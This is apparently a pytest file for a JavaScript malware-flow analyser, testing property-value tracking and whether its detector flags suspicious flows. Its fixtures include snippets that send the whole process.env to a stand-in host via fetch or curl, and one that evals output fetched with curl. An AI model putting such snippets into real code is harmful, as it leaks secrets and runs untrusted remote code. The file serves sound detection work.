from __future__ import annotations

import pytest

from assay.javascript.flows import slicer_of
from assay.javascript.holdings import MAX_BYTES, Holdings
from assay.javascript.syntax import parse
from assay.model.source import BehaviourKind
from tests.javascript.test_flows import flows, kinds

SENT = (BehaviourKind.ENVIRONMENT_DUMP, BehaviourKind.NETWORK)


def held(code: str, member: str) -> list[str]:
    """The values of the last mention of a member such as ``this.a``."""
    syntax = parse("a.js", code.encode())
    start = code.rindex(member)
    node = syntax.innermost(start, start + len(member), "member_expression")
    assert node is not None
    return [syntax.text(each) for each in Holdings(slicer_of(syntax).scopes).values(node)]


@pytest.mark.parametrize(
    ("code", "member", "values"),
    [
        ("class A { constructor() { this.a = 1; } b() { return this.a; } }", "this.a", ["1"]),
        ("class A { a = 1; b() { return this.a; } }", "this.a", ["1"]),
        ("class A { static a = 1 }\nuse(A.a);", "A.a", ["1"]),
        ("const A = class { a = 1 };\nuse(new A().a);", "new A().a", ["1"]),
        ("const o = { a: 1, b() { return this.a; } };", "this.a", ["1"]),
        ("const o = { a: 1 };\nuse(o.a);", "o.a", ["1"]),
        ("function A() { this.a = 1; }\nA.prototype.b = function () { return this.a; };", "this.a", ["1"]),
        ("class A { c() { this.a = 1; } b() { send({ x: this.a }); } }", "this.a", ["1"]),
        ("class A { b() { this.a.push(1); } }\nclass B { b() { return this.a; } }", "this.a", []),
        ("use(os.a);", "os.a", []),
    ],
)
def test_what_a_property_holds(code: str, member: str, values: list[str]) -> None:
    assert held(code, member) == values


def test_a_property_that_holds_itself_ends() -> None:
    assert held("class A { b() { this.a = this.a || this.b; return this.a; } }", "this.a") == ["this.a || this.b"]


def test_a_class_that_is_a_library_of_its_own_is_not_searched() -> None:
    filler = "x = 0;\n" * (MAX_BYTES // 7)
    assert held(f"class A {{ a = 1;\n{filler} b() {{ return this.a; }} }}", "this.a") == []


@pytest.mark.parametrize(
    "code",
    [
        "class A { take() { this.all = process.env; } send() { fetch('https://a.invalid', { body: this.all }); } }",
        "class A { take() { return process.env; } send() { fetch('https://a.invalid', { body: this.take() }); } }",
        "class A { send(all) { fetch('https://a.invalid', { body: all }); } run() { this.send(process.env); } }",
        "const o = { send: function (all) { fetch('https://a.invalid', { body: all }); } };\no.send(process.env);",
        "const send = (all = process.env) => fetch('https://a.invalid', { body: all });\nsend();",
        "const e = make();\n"
        "e.on('go', (all) => fetch('https://a.invalid', { body: all }));\ne.emit('go', process.env);",
        "class A { constructor(all) { fetch('https://a.invalid', { body: all }); } }\nnew A({ ...process.env });",
        "const cp = require('child_process');\ncp.spawn('curl', ['-d', JSON.stringify(process.env), 'https://a.invalid']);",
    ],
)
def test_values_are_followed_through_classes_objects_and_events(code: str) -> None:
    assert SENT in kinds(code)


def test_a_number_carries_nothing_on() -> None:
    assert not flows("const cp = require('child_process');\nfetch(u).then((a) => cp.exec('kill ' + Number(a.pid)));")


def test_what_curl_prints_comes_from_the_network() -> None:
    code = "const text = require('child_process').execSync('curl -s https://a.invalid').toString();\neval(text);"
    assert (BehaviourKind.NETWORK, BehaviourKind.DYNAMIC_CODE) in kinds(code)
